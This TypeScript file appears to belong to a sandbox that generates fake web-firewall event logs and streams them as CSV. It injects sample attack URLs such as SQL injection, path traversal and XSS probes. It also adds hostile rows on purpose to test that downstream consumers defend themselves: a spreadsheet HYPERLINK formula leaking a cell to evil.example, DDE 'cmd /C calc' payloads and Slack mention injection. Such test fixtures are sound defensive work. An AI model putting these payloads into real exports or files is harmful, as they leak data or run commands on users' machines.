/**
 * Shield event logs and their CSV export. Events are a pure function of (seed, zone, time), so any
 * window can be exported again with the same rows; the CSV is produced row by row while streaming.
 *
 * The vendor does not document the CSV columns. The sandbox uses one plain header row:
 *   timestamp (ISO 8601 UTC), ruleId, ruleName, action, feature, ip, country, asn, ja4, method, url, userAgent
 * and RFC 4180 quoting with CRLF line ends. Cells are written raw, formula-looking ones included:
 * protecting spreadsheets is the consumer's job, and the hostile rows exist to prove it does.
 */
import { Readable } from 'node:stream';
import { parseIp } from './ip.js';
import { createRandom, type Random } from './random.js';
import type { ExportFilterClause as ExportFilter } from './vendor-rules.js';

export const EXPORT_COLUMNS = [
  'timestamp',
  'ruleId',
  'ruleName',
  'action',
  'feature',
  'ip',
  'country',
  'asn',
  'ja4',
  'method',
  'url',
  'userAgent',
] as const;

export interface ShieldEvent {
  timestamp: number;
  ruleId: string;
  ruleName: string;
  action: string;
  feature: string;
  ip: string;
  country: string;
  asn: string;
  ja4: string;
  method: string;
  url: string;
  userAgent: string;
}

export interface ExportSpec {
  seed: number;
  shieldZoneId: number;
  from: number;
  to: number;
  query?: string;
  filters?: readonly ExportFilter[];
  /** Generate dense rows until the body reaches about this many bytes instead of the normal rate. */
  targetBytes?: number;
}

const RULES: readonly (readonly [{ ruleId: string; ruleName: string; feature: string }, number])[] = [
  [{ ruleId: '930120', ruleName: 'OS File Access Attempt', feature: 'waf' }, 8],
  [{ ruleId: '941100', ruleName: 'XSS Attack Detected via libinjection', feature: 'waf' }, 6],
  [{ ruleId: '942100', ruleName: 'SQL Injection Attack Detected via libinjection', feature: 'waf' }, 6],
  [{ ruleId: '913100', ruleName: 'Found User-Agent associated with security scanner', feature: 'waf' }, 5],
  [{ ruleId: '920350', ruleName: 'Host header is a numeric IP address', feature: 'waf' }, 3],
  [{ ruleId: 'rl-1042', ruleName: 'Rate limit: login endpoint', feature: 'rateLimit' }, 6],
  [{ ruleId: 'bd-headless', ruleName: 'Headless browser fingerprint', feature: 'botDetection' }, 5],
  [{ ruleId: 'al-207', ruleName: 'Access list: blocked countries', feature: 'accessList' }, 3],
  [{ ruleId: 'cr-2041', ruleName: 'Custom rule: block .env probes', feature: 'customWaf' }, 2],
];
const ACTIONS: readonly (readonly [string, number])[] = [
  ['Block', 6],
  ['Log', 5],
  ['Challenge', 3],
  ['Allow', 1],
];
const IP_PREFIXES: readonly string[] = [
  '203.0.113.',
  '198.51.100.',
  '192.0.2.',
  '185.220.101.',
  '45.155.205.',
];
const COUNTRIES: readonly string[] = ['DE', 'US', 'NL', 'CN', 'RU', 'BR', 'IN', 'FR', 'GB', 'SG'];
const ASNS: readonly string[] = ['13335', '16509', '24940', '4134', '12389', '14061', '60068'];
const JA4S: readonly string[] = [
  't13d1516h2_8daaf6152771_02713d6af862',
  't13d1715h2_5b57614c22b0_3d5424432f57',
  't12d210700_76e208dd3e22_2dae41c691ec',
  'q13d0312h3_55b375c5d22e_06cda9e17597',
];
const METHODS: readonly (readonly [string, number])[] = [
  ['GET', 10],
  ['POST', 4],
  ['HEAD', 1],
  ['PUT', 1],
];
const URLS: readonly string[] = [
  '/wp-login.php',
  '/.env',
  '/api/v1/login',
  '/search?q=%27%20OR%201%3D1--',
  '/etc/passwd',
  '/index.php?page=../../../../etc/passwd',
  '/api/v1/products?id=42',
  '/checkout',
  '/?s=<script>alert(1)</script>',
  '/static/app.js',
];
const USER_AGENTS: readonly string[] = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64) HeadlessChrome/125.0.6422.60 Safari/537.36',
  'sqlmap/1.8.4#stable (https://sqlmap.org)',
  'curl/8.7.1',
  'python-requests/2.32.3',
  'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
];

/** Rows that try to break Slack, CSV parsers and spreadsheets. */
const HOSTILE: readonly Partial<ShieldEvent>[] = [
  { url: '/<!channel>' },
  { userAgent: '=HYPERLINK("http://evil.example/?leak="&A1,"click me")' },
  { userAgent: "+cmd|' /C calc'!A0" },
  { url: "-2+3+cmd|' /C calc'!A0" },
  { ruleName: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { userAgent: 'Mozilla/5.0 "quoted", with a comma\r\nand a second line' },
  { url: '/search?q=<@U123> & friends' },
];
const HOSTILE_EVERY = 37;

function buildEvent(random: Random, timestamp: number, hostileIndex: number | undefined): ShieldEvent {
  const rule = random.weighted(RULES);
  const ip =
    random.int(8) === 0
      ? `2001:db8:85a3::8a2e:370:${random.hex(4)}`
      : `${random.pick(IP_PREFIXES)}${random.between(1, 254)}`;
  const event: ShieldEvent = {
    timestamp,
    ruleId: rule.ruleId,
    ruleName: rule.ruleName,
    action: random.weighted(ACTIONS),
    feature: rule.feature,
    ip,
    country: random.pick(COUNTRIES),
    asn: random.pick(ASNS),
    ja4: random.pick(JA4S),
    method: random.weighted(METHODS),
    url: random.pick(URLS),
    userAgent: random.pick(USER_AGENTS),
  };
  if (hostileIndex === undefined) return event;
  return { ...event, ...HOSTILE[hostileIndex % HOSTILE.length] };
}

const SLOT_MS = 10_000;
const EVENTS_PER_SLOT: readonly (readonly [number, number])[] = [
  [0, 3],
  [1, 4],
  [2, 2],
  [3, 1],
];

/** Events at the normal rate: each 10-second slot holds 0–3 events, fixed by the slot's start. */
function* normalEvents(seed: number, zone: number, from: number, to: number): Generator<ShieldEvent> {
  for (let slot = Math.floor(from / SLOT_MS) * SLOT_MS; slot <= to; slot += SLOT_MS) {
    const random = createRandom(seed, 'shield-events', zone, slot);
    const slotIndex = slot / SLOT_MS;
    const hostile = slotIndex % HOSTILE_EVERY === 0;
    const count = Math.max(random.weighted(EVENTS_PER_SLOT), hostile ? 1 : 0);
    const offsets = Array.from({ length: count }, () => random.int(SLOT_MS)).sort((a, b) => a - b);
    for (let i = 0; i < count; i++) {
      const timestamp = slot + (offsets[i] ?? 0);
      const event = buildEvent(random, timestamp, hostile && i === 0 ? slotIndex / HOSTILE_EVERY : undefined);
      if (timestamp >= from && timestamp <= to) yield event;
    }
  }
}

/** A row of the CSV is about 230 bytes; plan for more rows than needed and stop at the byte target. */
const MIN_ROW_BYTES = 150;

function* denseEvents(seed: number, zone: number, from: number, to: number, bytes: number) {
  const rows = Math.max(1, Math.ceil(bytes / MIN_ROW_BYTES));
  const step = (to - from) / rows;
  const random = createRandom(seed, 'shield-events-dense', zone, from);
  for (let i = 0; i < rows; i++) {
    yield buildEvent(
      random,
      from + Math.floor(i * step),
      i % HOSTILE_EVERY === 0 ? i / HOSTILE_EVERY : undefined,
    );
  }
}

// ---------------------------------------------------------------- filtering

function inCidr(ip: string, cidr: string): boolean {
  const [network = '', prefixText] = cidr.split('/');
  const address = parseIp(ip);
  const base = parseIp(network);
  if (!address || !base || address.bits !== base.bits) return false;
  const prefix = prefixText === undefined ? base.bits : Number(prefixText);
  if (!Number.isInteger(prefix) || prefix < 0 || prefix > base.bits) return false;
  const shift = BigInt(base.bits - prefix);
  return address.value >> shift === base.value >> shift;
}

function wildcardPattern(value: string): RegExp {
  const escaped = value.replace(/[.+?^${}()|[\]\\]/g, '\\$&').replace(/\*/g, '.*');
  return new RegExp(`^${escaped}$`, 'i');
}

const FIELD_OF: Readonly<Record<ExportFilter['field'], keyof ShieldEvent>> = {
  feature: 'feature',
  ruleId: 'ruleId',
  ip: 'ip',
  ja4: 'ja4',
  ua: 'userAgent',
  url: 'url',
  asn: 'asn',
  country: 'country',
  action: 'action',
};

type EventPredicate = (event: ShieldEvent) => boolean;

function filterPredicate(filter: ExportFilter): EventPredicate {
  const field = FIELD_OF[filter.field];
  const values = filter.value.map((value) => value.toLowerCase());
  switch (filter.op) {
    case 'eq':
    case 'in':
      return (event) => values.includes(String(event[field]).toLowerCase());
    case 'contains':
      return (event) => values.some((value) => String(event[field]).toLowerCase().includes(value));
    case 'wildcard': {
      const patterns = filter.value.map(wildcardPattern);
      return (event) => patterns.some((pattern) => pattern.test(String(event[field])));
    }
    case 'cidr':
      return (event) => filter.value.some((cidr) => inCidr(String(event[field]), cidr));
  }
}

/** Filters combine with AND, values within one filter with OR; the query searches IP, rule, URL and User-Agent. */
function exportPredicate(query: string | undefined, filters: readonly ExportFilter[]): EventPredicate {
  const predicates = filters.map(filterPredicate);
  const needle = query?.trim().toLowerCase();
  if (needle) {
    predicates.push((event) =>
      [event.ip, event.ruleId, event.url, event.userAgent, event.ruleName].some((text) =>
        text.toLowerCase().includes(needle),
      ),
    );
  }
  return (event) => predicates.every((predicate) => predicate(event));
}

// ---------------------------------------------------------------- CSV

function csvCell(value: string): string {
  return /[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
}

export function csvRow(event: ShieldEvent): string {
  return `${EXPORT_COLUMNS.map((column) =>
    csvCell(column === 'timestamp' ? new Date(event.timestamp).toISOString() : event[column]),
  ).join(',')}\r\n`;
}

const CHUNK_CHARS = 64 * 1024;

/** The export body: a header row, then matching events as they are generated. */
export function exportCsvStream(spec: ExportSpec): Readable {
  const events =
    spec.targetBytes === undefined
      ? normalEvents(spec.seed, spec.shieldZoneId, spec.from, spec.to)
      : denseEvents(spec.seed, spec.shieldZoneId, spec.from, spec.to, spec.targetBytes);
  const matches = exportPredicate(spec.query, spec.filters ?? []);
  const limit = spec.targetBytes ?? Number.POSITIVE_INFINITY;
  let written = 0;
  let started = false;
  let finished = false;
  return new Readable({
    read() {
      if (finished) return;
      let chunk = started ? '' : `${EXPORT_COLUMNS.join(',')}\r\n`;
      started = true;
      while (chunk.length < CHUNK_CHARS) {
        const next = events.next();
        if (next.done || written + chunk.length >= limit) {
          finished = true;
          break;
        }
        if (matches(next.value)) chunk += csvRow(next.value);
      }
      written += chunk.length;
      if (chunk !== '') this.push(chunk);
      if (finished) this.push(null);
    },
  });
}
